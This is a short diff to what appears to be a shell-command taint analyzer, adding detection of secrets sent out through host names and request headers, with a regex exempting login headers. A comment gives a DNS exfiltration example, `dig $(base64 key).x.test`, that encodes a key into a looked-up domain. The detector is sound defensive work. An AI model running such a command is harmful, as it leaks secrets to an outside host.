@@ -61,6 +61,8 @@ def document(invocation: Invocation, use: Use) -> None:
 
 def host(invocation: Invocation, use: Use) -> None:
     """A host that is connected to."""
+    if Taint.SECRET in use.value.taint:  # as a part of the name (`dig $(base64 key).x.test`)
+        said(invocation, use)
     host, port = split_host(use.value.text.rpartition("://")[2].partition("/")[0])
     if not port:
         given = invocation.given("port")
@@ -158,6 +160,15 @@ def query_data(invocation: Invocation, use: Use) -> None:
     """`curl -G -d`: what becomes a part of the URL; a text says no more than a URL does, a file or a secret is sent."""
     if not _upload_named(invocation, use) and Taint.SECRET in use.value.taint:
         upload_data(invocation, use)
+
+
+def said(invocation: Invocation, use: Use) -> None:
+    """A text that goes along with a request, such as a header: sent where it holds a secret, unless that logs in."""
+    if Taint.SECRET in use.value.taint and _FOR_LOGIN.match(use.value.text) is None:
+        invocation.send(Stream(None, use.value.taint), span=use.value.span)
+
+
+_FOR_LOGIN = lazily(r"(?i:(?:proxy-)?authorization|[\w-]*(?:key|token|auth|secret))\s*:")
 
 
 def _upload_named(invocation: Invocation, use: Use) -> bool:
